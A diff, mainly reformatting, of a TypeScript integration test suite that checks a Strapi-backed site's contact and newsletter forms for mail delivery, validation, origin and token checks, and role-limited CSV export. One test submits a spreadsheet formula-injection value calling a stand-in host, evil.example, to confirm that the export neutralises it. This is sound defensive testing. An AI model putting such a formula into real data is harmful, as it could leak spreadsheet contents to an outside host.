@@ -45,13 +45,23 @@ interface PageForm {
 /** The page's forms in order (contact, newsletter): their section ids and bot-check tokens. */
 async function formsOf(pagePath: string): Promise<PageForm[]> {
   const html = await (await fetch(`${site.app.url}${pagePath}`)).text();
-  return [...html.matchAll(/name="formSection" value="(\d+)"\/><input type="hidden" name="formToken" value="([^"]+)"/g)].map(
-    ([, section, token]) => ({ section: section!, token: token! }),
-  );
+  return [
+    ...html.matchAll(/name="formSection" value="(\d+)"\/><input type="hidden" name="formToken" value="([^"]+)"/g),
+  ].map(([, section, token]) => ({ section: section!, token: token! }));
 }
 
-async function post(pagePath: string, form: PageForm, fields: Record<string, string>, headers: Record<string, string> = {}) {
-  const all = { "content-type": "application/x-www-form-urlencoded", origin: site.app.url, "x-forwarded-for": newClient(), ...headers };
+async function post(
+  pagePath: string,
+  form: PageForm,
+  fields: Record<string, string>,
+  headers: Record<string, string> = {},
+) {
+  const all = {
+    "content-type": "application/x-www-form-urlencoded",
+    origin: site.app.url,
+    "x-forwarded-for": newClient(),
+    ...headers,
+  };
   return fetch(`${site.app.url}${pagePath}`, {
     method: "POST",
     // An empty value leaves the header out.
@@ -71,7 +81,9 @@ const contactFields = (email: string) => ({
 
 /** The stored submissions whose fields hold `email`, as the Content Manager lists them to an admin. */
 async function submissionsOf(email: string): Promise<Json[]> {
-  const { body } = await adminCall(site.cms.url, "GET", `${SUBMISSIONS}?pageSize=100&sort=createdAt:desc`, { token: superToken });
+  const { body } = await adminCall(site.cms.url, "GET", `${SUBMISSIONS}?pageSize=100&sort=createdAt:desc`, {
+    token: superToken,
+  });
   return (body.results as Json[]).filter((row) => JSON.stringify(row.fields).includes(email));
 }
 
@@ -115,7 +127,11 @@ describe("a content form through the real Strapi", () => {
     );
     expect(mail!.to).toEqual(["hello@example.com"]);
     expect(mailHeader(mail!, "Reply-To")).toContain(email);
-    await until("the row marked sent", async () => (await submissionsOf(email))[0]?.mailStatus, (s) => s === "sent");
+    await until(
+      "the row marked sent",
+      async () => (await submissionsOf(email))[0]?.mailStatus,
+      (s) => s === "sent",
+    );
   });
 
   it("answers wrong fields with messages next to them, keeps what was typed and stores nothing", async () => {
@@ -143,7 +159,9 @@ describe("a content form through the real Strapi", () => {
   it("refuses a post from another site, a filled honeypot and a forged token, storing nothing", async () => {
     const [contact] = await formsOf("/contact");
     // Another Origin: React Router's own check refuses it (400) before the action runs.
-    const foreign = await post("/contact", contact!, contactFields("foreign@example.com"), { origin: "https://evil.example" });
+    const foreign = await post("/contact", contact!, contactFields("foreign@example.com"), {
+      origin: "https://evil.example",
+    });
     expect(foreign.status).toBe(400);
     // No Origin, but the browser says cross-site: the auth forms' origin check (403).
     const crossSite = await post("/contact", contact!, contactFields("cross-site@example.com"), {
@@ -158,7 +176,11 @@ describe("a content form through the real Strapi", () => {
     expect(await bot.text()).toContain('value="Ada Visitor"');
     // A token of the newsletter form does not send the contact form.
     const [, newsletter] = await formsOf("/contact");
-    const forged = await post("/contact", { section: contact!.section, token: newsletter!.token }, contactFields("forged@example.com"));
+    const forged = await post(
+      "/contact",
+      { section: contact!.section, token: newsletter!.token },
+      contactFields("forged@example.com"),
+    );
     expect(forged.status).toBe(400);
     for (const email of ["foreign@example.com", "cross-site@example.com", "bot@example.com", "forged@example.com"]) {
       expect(await submissionsOf(email), email).toEqual([]);
@@ -205,7 +227,11 @@ describe("a content form through the real Strapi", () => {
       { timeoutMs: (2 ** attempts + 1) * 1000 + 15_000 },
     );
     expect(mail!.to).toEqual(["newsletter@example.com"]);
-    const row = await until("the row marked sent", async () => (await submissionsOf(email))[0], (r) => r?.mailStatus === "sent");
+    const row = await until(
+      "the row marked sent",
+      async () => (await submissionsOf(email))[0],
+      (r) => r?.mailStatus === "sent",
+    );
     expect(row!.mailAttempts).toBeGreaterThan(1);
     expect(smtp!.messages.filter((m) => mailText(m).includes(email))).toHaveLength(1);
   }, 90_000);
@@ -228,29 +254,39 @@ describe("a content form through the real Strapi", () => {
     });
     expect(site_.status).toBe(400);
     // No content-API route reads them, with or without the read-only token.
-    const list = await fetch(`${site.cms.url}/api/submissions`, { headers: { authorization: `Bearer ${site.cms.token}` } });
+    const list = await fetch(`${site.cms.url}/api/submissions`, {
+      headers: { authorization: `Bearer ${site.cms.token}` },
+    });
     expect(list.status).toBe(404);
   });
 
   it("lets an Editor read and export submissions, and an Author neither; a typed formula is no formula in the export", async () => {
     const [contact] = await formsOf("/contact");
     const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
-    expect((await post("/contact", contact!, { ...contactFields("formula@example.com"), field_name: formula })).status).toBe(200);
+    expect(
+      (await post("/contact", contact!, { ...contactFields("formula@example.com"), field_name: formula })).status,
+    ).toBe(200);
     const editor = await adminWithRole(site.cms.url, superToken, "strapi-editor", "FormEditor");
     const author = await adminWithRole(site.cms.url, superToken, "strapi-author", "FormAuthor");
     expect((await adminCall(site.cms.url, "GET", SUBMISSIONS, { token: editor })).status).toBe(200);
     expect((await adminCall(site.cms.url, "GET", SUBMISSIONS, { token: author })).status).toBe(403);
 
-    const csv = await fetch(`${site.cms.url}/forms/submissions.csv?form=contact`, { headers: { authorization: `Bearer ${editor}` } });
+    const csv = await fetch(`${site.cms.url}/forms/submissions.csv?form=contact`, {
+      headers: { authorization: `Bearer ${editor}` },
+    });
     expect(csv.status).toBe(200);
     expect(csv.headers.get("content-type")).toContain("text/csv");
     const text = await csv.text();
-    expect(text.split("\r\n")[0]).toBe("submittedAt,form,pagePath,pageLocale,mailStatus,name,email,topic,message,consent");
+    expect(text.split("\r\n")[0]).toBe(
+      "submittedAt,form,pagePath,pageLocale,mailStatus,name,email,topic,message,consent",
+    );
     expect(text).toContain("formula@example.com");
     expect(text).not.toContain("while-down@example.com");
     // OWASP's CSV injection advice: the cell starts with a quote, so a spreadsheet shows it as text.
     expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`);
-    const refused = await fetch(`${site.cms.url}/forms/submissions.csv`, { headers: { authorization: `Bearer ${author}` } });
+    const refused = await fetch(`${site.cms.url}/forms/submissions.csv`, {
+      headers: { authorization: `Bearer ${author}` },
+    });
     expect(refused.status).toBe(403);
   });
 });
